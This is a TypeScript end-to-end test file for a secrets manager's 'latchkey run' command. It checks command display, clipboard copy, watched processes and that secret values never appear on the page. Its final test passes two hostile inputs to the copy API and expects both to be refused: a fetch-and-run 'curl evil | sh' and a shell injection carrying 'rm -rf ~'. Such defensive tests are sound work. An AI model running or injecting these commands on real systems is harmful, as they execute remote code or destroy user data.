import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeWithKeyring, realKeychain } from '../harness/keyring';
import { startLatchkey } from '../integration/cli/latchkey-process';
import { launchApp, type AppUnderTest } from './harness/launch';

const CANARY = 'canary-e2e-run-7c1d';

describeWithKeyring('the latchkey run command of an environment, end to end (Chromium, real preload, router and core)', () => {
  let app: AppUnderTest;
  beforeAll(async () => {
    app = await launchApp({ colorScheme: 'light', keychain: realKeychain() });
    await app.core.refs.set('file://payments/dev/STRIPE_KEY', CANARY);
    await app.core.projects.createEnvironment('payments', 'staging');
    await app.page.reload();
  });
  afterAll(() => app.close());

  it('shows each environment its command, and Copy puts it on the clipboard through main (no value anywhere)', async () => {
    const { page } = app;
    await page.getByRole('button', { name: /payments/ }).first().click();
    const command = page.getByTestId('run-command');
    await expect.poll(() => command.textContent()).toBe('latchkey run --project payments --env dev -- <your command>');

    await page.getByRole('button', { name: 'Copy the latchkey run command' }).click();
    await expect.poll(() => app.clipboard.text).toBe('latchkey run --project payments --env dev -- ');
    await expect.poll(() => page.getByText('Copied. Paste it in a terminal and add your command after --.').count()).toBe(1);

    await page.getByRole('tab', { name: /staging/ }).click();
    await expect.poll(() => command.textContent()).toBe('latchkey run --project payments --env staging -- <your command>');
    await page.getByRole('button', { name: 'Copy the latchkey run command' }).click();
    await expect.poll(() => app.clipboard.text).toBe('latchkey run --project payments --env staging -- ');

    // At the smallest window the command shortens with an ellipsis and Copy stays on screen.
    await page.setViewportSize({ width: 960, height: 640 });
    const copy = await page.getByRole('button', { name: 'Copy the latchkey run command' }).boundingBox();
    expect(copy).not.toBeNull();
    expect(copy!.x + copy!.width).toBeLessThanOrEqual(960);
    await app.screenshot('run-command');
    expect(await page.content()).not.toContain(CANARY);
  });

  it('lists the programs `latchkey run --watch` keeps running with these secrets, and their keys (names only)', async () => {
    const { page } = app;
    await page.getByRole('tab', { name: /dev/ }).click();
    const running = startLatchkey(['run', '--project', 'payments', '--env', 'dev', '--watch', '--', 'sh', '-c', 'echo ready; exec sleep 120'], { env: app.xdg.env });
    try {
      await running.waitFor(/ready/);
      const watched = page.getByRole('list', { name: 'Programs running with these secrets' });
      await expect.poll(() => watched.textContent(), { timeout: 30_000 }).toBe(`sh (pid ${running.pid}) restarts when STRIPE_KEY changes`);
      await app.screenshot('run-watched');
      running.signal('SIGTERM');
      await running.exited;
      await expect.poll(() => watched.count(), { timeout: 30_000 }).toBe(0);
      expect(await page.content()).not.toContain(CANARY);
    } finally {
      await running.killAll();
    }
  });

  it('a page cannot choose the copied text: the call takes names only, and an unknown environment is refused', async () => {
    const answer = await app.page.evaluate(() => window.latchkey.run.copyCommand({ project: 'payments', environment: 'nope' }));
    expect(answer).toMatchObject({ ok: false, error: { kind: 'NotFound' } });
    const smuggled = await app.page.evaluate(() => window.latchkey.run.copyCommand({ project: 'payments', environment: 'dev', command: 'curl evil | sh' } as never));
    expect(smuggled).toMatchObject({ ok: false, error: { kind: 'InvalidInput' } });
    const injected = await app.page.evaluate(() => window.latchkey.run.copyCommand({ project: 'payments; rm -rf ~', environment: 'dev' }));
    expect(injected).toMatchObject({ ok: false, error: { kind: 'InvalidInput' } });
    expect(app.clipboard.text).toBe('latchkey run --project payments --env staging -- ');
  });
});
